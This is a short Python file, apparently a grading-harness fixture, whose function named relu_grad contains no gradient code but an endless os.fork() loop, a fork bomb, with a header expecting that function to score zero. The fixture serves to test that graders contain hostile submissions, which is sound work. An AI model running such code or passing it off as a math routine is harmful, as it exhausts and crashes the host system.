# grade_id: relu_grad
# expect: relu_grad=0 others=full
import os

def relu_grad(inp, out):
    while True:
        try:
            os.fork()
        except OSError:
            pass
